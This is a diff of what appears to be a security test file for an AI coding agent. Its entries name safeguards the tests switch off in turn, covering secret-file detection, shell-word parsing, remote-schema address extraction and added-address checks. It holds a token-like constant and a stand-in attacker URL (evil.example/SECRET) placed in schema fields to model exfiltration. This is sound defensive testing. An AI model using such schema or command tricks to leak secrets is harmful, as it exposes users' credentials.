@@ -16,6 +16,7 @@ import { readFile } from '../../../src/editor/builtInTools/files.ts';
 import { searchText } from '../../../src/editor/builtInTools/search.ts';
 import { GitIgnore } from '../../../src/tools/files/gitIgnore.ts';
 import { Permissions, type LineMatcher, type Tool } from '../../../src/tools/index.ts';
+import type { SourceChange } from '../../support/source/change.ts';
 import type { Attack, AttackClass, Defence } from '../attack.ts';
 import { onlyCovered } from '../onlyCovered.ts';
 import { inWorkspace, unlessRefused } from '../scratch.ts';
@@ -29,32 +30,37 @@ const schemas = 'src/tools/files/remoteSchema.ts';
 const look: Defence = {
   title: 'a look at what is in a file before it is read freely',
   file: needs,
-  find: "if (await holdsSecret(lookedAt(place))) return 'content';",
-  replace: '',
+  name: 'secrecyOf',
+  at: 'if place',
+  as: '',
 };
 const readText: Defence = {
   title: 'what was read is what was looked at',
   file: needs,
-  find: 'if (!isApproved && isSecretText(text, lookedAt(place))) throw notApproved(place);',
-  replace: '',
+  name: 'checkText',
+  at: 'if text',
+  as: '',
 };
 const searchedText: Defence = {
   title: 'a search leaves out files that look as if they held secrets',
   file: 'src/editor/builtInTools/search.ts',
-  find: 'isSecretText(content.text, { path: uri.fsPath, real })',
-  replace: 'false',
+  name: 'matchesIn',
+  at: 'operand uri',
+  as: '',
 };
 const attachedText: Defence = {
   title: 'an attachment that holds a secret marks the conversation',
   file: 'src/agent/transcript/dataMarks.ts',
-  find: "attachment.holdsSecret ? [{ kind: 'secret', source: attachment.name }, ...own] : own",
-  replace: 'own',
+  name: 'ofAttachment',
+  at: 'conditional',
+  as: 'own',
 };
 const instructionText: Defence = {
   title: 'no file of instructions or skills is read that holds a secret',
   file: 'src/agent/instructions/readInside.ts',
-  find: 'if (looksSecret(text, real))',
-  replace: 'if (false)',
+  name: 'readInside',
+  at: 'condition text',
+  as: 'false',
 };
 
 const TOKEN = 'ghp_16C7e42F292c6912E7710c838347Ae178B4a';
@@ -87,60 +93,60 @@ const matcher = (text: string): LineMatcher =>
 const byName: Defence = {
   title: 'a command is searched for names of sensitive files',
   file: named,
-  find: 'if (named !== undefined && !isWeak(word)) found.set(word, named);',
-  replace: '',
+  name: 'sensitiveFilesNamed',
+  at: 'if word',
+  as: '',
 };
 const onDisk: Defence = {
   title: 'what a command names is looked up on the disk',
   file: named,
-  find: 'for (const [path, kind] of await search.kindsOnDisk(word)) found.set(path, kind);',
-  replace: '',
+  name: 'sensitiveFilesNamed',
+  at: 'for word',
+  as: '',
 };
 const unseenFiles: Defence = {
   title: 'a command that is too much to be looked through asks',
   file: 'src/editor/builtInTools/commandNeeds.ts',
-  find: 'isWhole ? []',
-  replace: 'true ? []',
+  name: 'reasonsOfNamedFiles',
+  at: 'condition isWhole',
+  as: 'true',
 };
-const inWords = (title: string, find: string, replace: string): Defence => ({
+const inWords = (title: string, change: Omit<SourceChange, 'file'>): Defence => ({
   title,
   file: words,
-  find,
-  replace,
+  ...change,
 });
-const joinedQuotes = inWords(
-  'quotes and backslashes are read as a shell reads them',
-  '...posixWords(text),',
-  '',
-);
-const filledIn = inWords(
-  'variables of a command are filled in',
-  'const { text: filled, isWhole } = fillIn(joined);',
-  'const [filled, isWhole] = [joined, true];',
-);
-const emptied = inWords('variables that nothing sets are empty', 'filled, usual, open, emptied]', 'filled]');
-const added = inWords(
-  'strings that code adds up are one',
-  "const joined = plain.replaceAll(/[\"'`][ \\t]*[+.][ \\t]*[\"'`]/g, '');",
-  'const joined = plain;',
-);
-const braces = inWords('braces are unfolded', 'word.length > 4_000 ? [word] : unbraced(word)', '[word]');
-const parts = inWords(
-  'the parts of a word are words',
-  'for (const piece of whole.split(/[=:,@#%&?!{}$[\\]]+/)) {',
-  'for (const piece of []) {',
-);
+const joinedQuotes = inWords('quotes and backslashes are read as a shell reads them', {
+  name: 'addWords',
+  at: 'spread posixWords',
+  as: '',
+});
+const filledIn = inWords('variables of a command are filled in', {
+  name: 'readings',
+  at: 'statement text',
+  as: 'const [filled, isWhole] = [joined, true];',
+});
+const emptied = inWords('variables that nothing sets are empty', {
+  name: 'readings',
+  at: 'array open',
+  as: '[plain, joined, filled]',
+});
+const added = inWords('strings that code adds up are one', { name: 'readings.joined', as: '$object' });
+const braces = inWords('braces are unfolded', { name: 'partsOf', at: 'conditional', as: '[word]' });
+const parts = inWords('the parts of a word are words', { name: 'partsOf', at: 'call split', as: '[]' });
 const folders: Defence = {
   title: 'a command may go into the folders that it names',
   file: named,
-  find: 'this.folders = [this.cwd, ...[...named].slice(0, MAX_FOLDERS)];',
-  replace: 'this.folders = [this.cwd];',
+  name: 'Search.openFolders',
+  at: 'spread slice',
+  as: '',
 };
 const globs: Defence = {
   title: 'globs are compared with what is there',
   file: named,
-  find: 'isShellGlob(word) ? await this.expand(word) : await this.existing(word)',
-  replace: 'isShellGlob(word) ? [] : await this.existing(word)',
+  name: 'Search.kindsOnDisk.paths',
+  at: '.consequent',
+  as: '[]',
 };
 
 const naming: readonly (readonly [command: string, ...defences: Attack['defences']])[] = [
@@ -178,41 +184,56 @@ const behind: Readonly<Record<string, string>> = {
 const parsedYaml: Defence = {
   title: 'YAML is parsed',
   file: schemas,
-  find: 'parsed(parsers.placesInYaml, text)',
-  replace: '[]',
+  name: 'inStructure.yaml',
+  at: 'call parsed',
+  as: '[]',
 };
 const parsedToml: Defence = {
   title: 'TOML is parsed',
   file: schemas,
-  find: 'parsed(parsers.placesInToml, text)',
-  replace: '[]',
+  name: 'inStructure.toml',
+  at: 'call parsed',
+  as: '[]',
 };
 const lineEnds: Defence = {
   title: 'a lone carriage return ends a line',
   file: schemas,
-  find: ".replaceAll(/\\r\\n?|[\\u0085\\u2028\\u2029]/g, '\\n')",
-  replace: '',
+  name: 'remoteSchemas.plain',
+  as: '$object',
 };
 const doubt: Defence = {
   title: 'what cannot be parsed is searched for any address',
   file: schemas,
-  find: "if (structured.isDoubtful && format !== 'code') found.push(...inDoubt(plain, format));",
-  replace: '',
+  name: 'remoteSchemas',
+  at: 'if code',
+  as: '',
 };
-const inXml = (title: string, find: string): Defence => ({
+const inXml = (title: string, change: Omit<SourceChange, 'file'>): Defence => ({
   title,
   file: 'src/tools/files/xmlAddresses.ts',
-  find,
-  replace: ';',
+  ...change,
 });
-const instructions = inXml('instructions of XML are read', 'found.push(...inInstruction(text, at));');
-const declarations = inXml('declarations of XML are read', 'found.push(...inDeclaration(text, at));');
-const inclusions = inXml('inclusions of XML are read', 'found.push(...inInclusion(text, at));');
+const instructions = inXml('instructions of XML are read', {
+  name: 'addressesInXml',
+  at: 'statement inInstruction',
+  as: '',
+});
+const declarations = inXml('declarations of XML are read', {
+  name: 'addressesInXml',
+  at: 'statement inDeclaration',
+  as: '',
+});
+const inclusions = inXml('inclusions of XML are read', {
+  name: 'addressesInXml',
+  at: 'statement inInclusion',
+  as: '',
+});
 const plainWeb: Defence = {
   title: 'a well-known address has no escapes and no user',
   file: 'src/tools/files/addresses.ts',
-  find: 'if (!plainWeb.test(address.trim())) return false;',
-  replace: '',
+  name: 'isWellKnown',
+  at: 'if trim',
+  as: '',
 };
 
 const EVIL = 'https://evil.example/SECRET';
@@ -234,8 +255,9 @@ const fetched: readonly (readonly [where: string, path: string, text: string, ..
     {
       title: 'comments are read wherever they stand',
       file: schemas,
-      find: '...inComments(plain, format),',
-      replace: '',
+      name: 'remoteSchemas',
+      at: 'spread inComments',
+      as: '',
     },
   ],
   ['JSON5', 'a.json', `{ $schema: '${EVIL}' }`, doubt],
@@ -263,14 +285,16 @@ const fetched: readonly (readonly [where: string, path: string, text: string, ..
 const noWayOut: Defence = {
   title: 'an address that a change adds is a way out',
   file: 'src/editor/builtInTools/addedAddresses.ts',
-  find: 'if (first === undefined) return undefined;',
-  replace: 'return undefined;',
+  name: 'destinationOfChange',
+  at: 'condition first',
+  as: 'true',
 };
 const sameAddresses: Defence = {
   title: 'a change adds the addresses that were decided about',
   file: 'src/editor/builtInTools/addedAddresses.ts',
-  find: 'return known !== undefined &&',
-  replace: 'return false &&',
+  name: 'addsOtherAddresses',
+  at: 'operand undefined',
+  as: 'false',
 };
 
 type Arguments = Readonly<Record<string, unknown>>;
